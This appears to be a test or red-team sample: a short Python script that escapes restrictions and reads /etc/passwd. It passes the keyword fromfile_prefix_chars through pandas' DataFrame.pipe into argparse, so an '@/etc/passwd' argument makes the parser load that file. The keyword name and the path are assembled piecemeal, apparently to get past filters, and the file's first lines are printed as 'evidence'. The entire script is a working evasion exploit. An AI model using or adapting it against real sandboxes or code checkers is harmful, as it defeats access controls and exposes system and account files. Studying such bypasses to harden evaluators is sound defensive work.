# source: pandas docs DataFrame.pipe tuple form; CPython argparse fromfile_prefix_chars; README: f(**kwargs) accepted for a def's own **kwargs
# family: keyword name chosen at run time flows into a def's **kwargs spread into ArgumentParser(...)
# goal: fromfile_prefix_chars='@' -> read /etc/passwd
import argparse
import json
import pandas as pd


def mk(**kw):
    return argparse.ArgumentParser(**kw)


p = pd.DataFrame.pipe("@", (mk, "fromfile_" + "prefix_" + "chars"))
p.add_argument("rest", nargs="*")
ns, extra = p.parse_known_args(["@" + chr(47) + "etc" + chr(47) + "passwd"])
print(json.dumps({"evidence": (ns.rest + extra)[:3]}))
